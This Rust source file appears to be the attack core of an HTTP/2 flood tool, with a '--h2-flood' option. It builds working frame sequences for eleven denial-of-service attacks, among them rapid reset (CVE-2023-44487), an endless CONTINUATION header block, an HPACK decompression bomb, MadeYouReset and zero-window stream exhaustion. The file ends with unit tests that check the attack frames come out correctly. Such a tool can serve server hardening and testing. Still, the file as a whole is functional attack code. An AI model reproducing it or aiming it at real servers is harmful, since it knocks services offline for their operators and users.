//! What each flood sends: the frames a connection opens with, and the next batch of
//! attack frames whenever the socket takes more. One [`Attack`] per connection.

use std::fmt;
use std::str::FromStr;

use super::wire::{self, kind, END_HEADERS, END_STREAM};

/// The attacks of `--h2-flood`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FloodKind {
    /// PING frames (each asks for an ack).
    Ping,
    /// SETTINGS frames (each asks for an ack).
    Settings,
    /// Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM CANCEL, stream after stream.
    Reset,
    /// CONTINUATION flood (CVE-2024-27316 family): one header block that never ends.
    Continuation,
    /// HPACK bomb: a 4 000-byte field enters the dynamic table, then every request
    /// references it 64 times (one byte each, 258 KB decoded).
    Hpack,
    /// WINDOW_UPDATE frames of 1 on the connection.
    Window,
    /// Empty DATA frames without END_STREAM on one open request.
    EmptyData,
    /// Zero window: SETTINGS_INITIAL_WINDOW_SIZE 0 and as many concurrent requests as the
    /// server allows, none of which can send a byte of body; a reset one is replaced.
    ZeroWindow,
    /// PRIORITY frames on ever new stream ids.
    Priority,
    /// Frames of an unknown type, 16 KiB each: ignored by the protocol, so only a limit on
    /// control bytes against payload (nginx's overhead rule) stops them.
    Unknown,
    /// MadeYouReset (CVE-2025-8671): a request then a WINDOW_UPDATE of 0 on its stream,
    /// which the server must answer with RST_STREAM.
    MadeYouReset,
}

impl FloodKind {
    pub const ALL: [FloodKind; 11] = [
        FloodKind::Ping,
        FloodKind::Settings,
        FloodKind::Reset,
        FloodKind::Continuation,
        FloodKind::Hpack,
        FloodKind::Window,
        FloodKind::EmptyData,
        FloodKind::ZeroWindow,
        FloodKind::Priority,
        FloodKind::Unknown,
        FloodKind::MadeYouReset,
    ];

    pub fn name(self) -> &'static str {
        match self {
            FloodKind::Ping => "ping",
            FloodKind::Settings => "settings",
            FloodKind::Reset => "reset",
            FloodKind::Continuation => "continuation",
            FloodKind::Hpack => "hpack",
            FloodKind::Window => "window",
            FloodKind::EmptyData => "empty-data",
            FloodKind::ZeroWindow => "zero-window",
            FloodKind::Priority => "priority",
            FloodKind::Unknown => "unknown",
            FloodKind::MadeYouReset => "made-you-reset",
        }
    }
}

impl fmt::Display for FloodKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for FloodKind {
    type Err = String;
    fn from_str(s: &str) -> Result<FloodKind, String> {
        FloodKind::ALL
            .into_iter()
            .find(|k| k.name() == s)
            .ok_or_else(|| {
                let names: Vec<&str> = FloodKind::ALL.iter().map(|k| k.name()).collect();
                format!("unknown flood `{s}`; one of: {}", names.join(", "))
            })
    }
}

/// What the requests of a flood ask for.
#[derive(Clone, Debug)]
pub struct Target {
    pub scheme: &'static str,
    pub authority: String,
    pub path: String,
}

/// Stream ids are 31 bits; the tool stops opening streams before they run out.
const LAST_STREAM_ID: u32 = 0x7fff_fff0;
/// The HPACK bomb's field: name + value + 32 = 4 038 bytes, within a 4 096-byte table.
const BOMB_VALUE_LEN: usize = 4000;
const BOMB_REFERENCES: usize = 64;
/// Streams a connection keeps open when the server advertises no limit.
const DEFAULT_CONCURRENCY: u32 = 100;

/// One connection's attack state.
pub struct Attack {
    kind: FloodKind,
    target: Target,
    next_stream: u32,
    /// Streams opened and not yet answered with END_STREAM or reset.
    in_flight: u32,
    /// The server's SETTINGS_MAX_CONCURRENT_STREAMS, once known.
    pub max_concurrent: u32,
    ping_payload: u64,
    /// The request block of the stream kinds, built once.
    block: Vec<u8>,
}

impl Attack {
    pub fn new(kind: FloodKind, target: Target) -> Attack {
        // Every flood asks with GET (the method servers allow by default); empty-data's
        // GET carries a body that never ends.
        let mut block = wire::request_block("GET", target.scheme, &target.authority, &target.path);
        if kind == FloodKind::Hpack {
            block.extend(std::iter::repeat_n(0x80 | 62, BOMB_REFERENCES));
        }
        Attack {
            kind,
            target,
            next_stream: 1,
            in_flight: 0,
            max_concurrent: DEFAULT_CONCURRENCY,
            ping_payload: 0,
            block,
        }
    }

    /// Whether the server's DATA should get its window credit back (all but zero-window).
    pub fn returns_credit(&self) -> bool {
        self.kind != FloodKind::ZeroWindow
    }

    /// Whether the connection may answer the server (acks, credit) between attack frames:
    /// not inside the endless header block of the CONTINUATION flood, where any other frame
    /// is a protocol error (the server would close for that, not for the flood).
    pub fn may_answer(&self) -> bool {
        self.kind != FloodKind::Continuation || self.next_stream == 1
    }

    /// The client preface, SETTINGS, and what the attack opens with.
    pub fn opening(&mut self, out: &mut Vec<u8>) -> u64 {
        out.extend_from_slice(wire::PREFACE);
        let window = if self.kind == FloodKind::ZeroWindow {
            0
        } else {
            1 << 24
        };
        wire::settings(
            out,
            &[
                (wire::SETTINGS_ENABLE_PUSH, 0),
                (wire::SETTINGS_INITIAL_WINDOW_SIZE, window),
            ],
        );
        if self.kind != FloodKind::ZeroWindow {
            wire::window_update(out, 0, (1 << 30) - 65_535);
        }
        match self.kind {
            FloodKind::Hpack => {
                // The first request puts the big field into the server's table.
                let mut first = wire::request_block(
                    "GET",
                    self.target.scheme,
                    &self.target.authority,
                    &self.target.path,
                );
                wire::hpack_indexed_literal(&mut first, b"x-bomb", &[b'a'; BOMB_VALUE_LEN]);
                let stream = self.open_stream();
                wire::frame(out, kind::HEADERS, END_STREAM | END_HEADERS, stream, &first);
                1
            }
            FloodKind::Continuation => {
                // A header block that never ends: HEADERS without END_HEADERS.
                let stream = self.open_stream();
                wire::frame(out, kind::HEADERS, END_STREAM, stream, &self.block);
                1
            }
            FloodKind::EmptyData => {
                let stream = self.open_stream();
                wire::frame(out, kind::HEADERS, END_HEADERS, stream, &self.block);
                1
            }
            _ => 0,
        }
    }

    /// Appends the next batch of attack frames (about 16 KiB); returns how many frames.
    pub fn batch(&mut self, out: &mut Vec<u8>) -> u64 {
        let mut frames = 0;
        let start = out.len();
        while out.len() - start < 16 * 1024 {
            let n = self.one(out);
            if n == 0 {
                break;
            }
            frames += n;
        }
        frames
    }

    /// One unit of the attack; 0 when the attack has nothing to send now.
    fn one(&mut self, out: &mut Vec<u8>) -> u64 {
        match self.kind {
            FloodKind::Reset
            | FloodKind::MadeYouReset
            | FloodKind::Hpack
            | FloodKind::ZeroWindow => self.one_request(out),
            _ => {
                self.one_frame(out);
                1
            }
        }
    }

    /// One frame of a flood that opens no stream.
    fn one_frame(&mut self, out: &mut Vec<u8>) {
        match self.kind {
            FloodKind::Ping => {
                self.ping_payload += 1;
                wire::frame(out, kind::PING, 0, 0, &self.ping_payload.to_be_bytes());
            }
            FloodKind::Settings => {
                wire::settings(out, &[(wire::SETTINGS_ENABLE_PUSH, 0)]);
            }
            FloodKind::Window => {
                wire::window_update(out, 0, 1);
            }
            FloodKind::Priority => {
                // PRIORITY may name an idle stream (RFC 9113 §5.1); ids wrap below the limit.
                let stream = self.next_stream;
                self.next_stream = if stream >= LAST_STREAM_ID {
                    1
                } else {
                    stream + 2
                };
                wire::priority(out, stream, 0, 16);
            }
            FloodKind::Unknown => {
                wire::frame(out, kind::UNKNOWN, 0, 0, &[0u8; 16_384]);
            }
            FloodKind::EmptyData => {
                wire::frame(out, kind::DATA, 0, 1, &[]);
            }
            FloodKind::Continuation => {
                let mut field = Vec::with_capacity(300);
                wire::hpack_literal(&mut field, b"x-continued", &[b'c'; 256]);
                wire::frame(out, kind::CONTINUATION, 0, 1, &field);
            }
            FloodKind::Reset
            | FloodKind::MadeYouReset
            | FloodKind::Hpack
            | FloodKind::ZeroWindow => unreachable!("one_request sends these"),
        }
    }

    /// A request (HEADERS with END_STREAM) on a new stream, then what the attack does to
    /// it; 0 when no stream may be opened now.
    fn one_request(&mut self, out: &mut Vec<u8>) -> u64 {
        let Some(stream) = self.try_open() else {
            return 0;
        };
        wire::frame(
            out,
            kind::HEADERS,
            END_STREAM | END_HEADERS,
            stream,
            &self.block,
        );
        match self.kind {
            FloodKind::Reset => {
                wire::rst_stream(out, stream, 0x8);
                self.in_flight -= 1;
                2
            }
            FloodKind::MadeYouReset => {
                wire::window_update(out, stream, 0);
                2
            }
            _ => 1,
        }
    }

    fn open_stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        self.in_flight += 1;
        stream
    }

    /// A new stream if the server's concurrency allows one.
    fn try_open(&mut self) -> Option<u32> {
        (self.in_flight < self.max_concurrent.max(1) && self.next_stream < LAST_STREAM_ID)
            .then(|| self.open_stream())
    }

    /// A stream of ours ended (END_STREAM from the server, or a reset).
    pub fn stream_ended(&mut self) {
        if self.kind != FloodKind::Reset {
            self.in_flight = self.in_flight.saturating_sub(1);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target() -> Target {
        Target {
            scheme: "https",
            authority: "a.test".into(),
            path: "/".into(),
        }
    }

    fn frames(buf: &[u8]) -> Vec<(u8, u8, u32)> {
        let mut at = 0;
        let mut out = Vec::new();
        while let Some(h) = wire::Header::parse(&buf[at..]) {
            out.push((h.kind, h.flags, h.stream));
            at += wire::HEADER_LEN + h.length;
        }
        out
    }

    #[test]
    fn names_round_trip() {
        for k in FloodKind::ALL {
            assert_eq!(k.name().parse::<FloodKind>(), Ok(k));
        }
        assert!("nope".parse::<FloodKind>().is_err());
    }

    #[test]
    fn rapid_reset_pairs_headers_with_rst() {
        let mut a = Attack::new(FloodKind::Reset, target());
        let mut out = Vec::new();
        let n = a.batch(&mut out);
        let f = frames(&out);
        assert_eq!(n as usize, f.len());
        assert_eq!(f[0], (kind::HEADERS, END_STREAM | END_HEADERS, 1));
        assert_eq!(f[1], (kind::RST_STREAM, 0, 1));
        assert_eq!(f[2].2, 3);
    }

    #[test]
    fn stream_floods_respect_the_servers_concurrency() {
        let mut a = Attack::new(FloodKind::ZeroWindow, target());
        a.max_concurrent = 3;
        let mut out = Vec::new();
        assert_eq!(a.batch(&mut out), 3);
        assert_eq!(a.batch(&mut out), 0);
        a.stream_ended();
        assert_eq!(a.batch(&mut out), 1);
    }

    #[test]
    fn hpack_bomb_references_the_inserted_field() {
        let mut a = Attack::new(FloodKind::Hpack, target());
        let mut out = Vec::new();
        a.opening(&mut out);
        a.batch(&mut out);
        let mut d = loona_hpack::Decoder::new();
        let mut at = wire::PREFACE.len();
        let mut blocks = Vec::new();
        while let Some(h) = wire::Header::parse(&out[at..]) {
            if h.kind == kind::HEADERS {
                blocks.push(out[at + 9..at + 9 + h.length].to_vec());
            }
            at += wire::HEADER_LEN + h.length;
        }
        let first = d.decode(&blocks[0]).unwrap();
        assert_eq!(first.last().unwrap().1.len(), BOMB_VALUE_LEN);
        let second = d.decode(&blocks[1]).unwrap();
        assert_eq!(second.len(), 4 + BOMB_REFERENCES);
        assert_eq!(second[4].0, b"x-bomb".to_vec());
    }
}
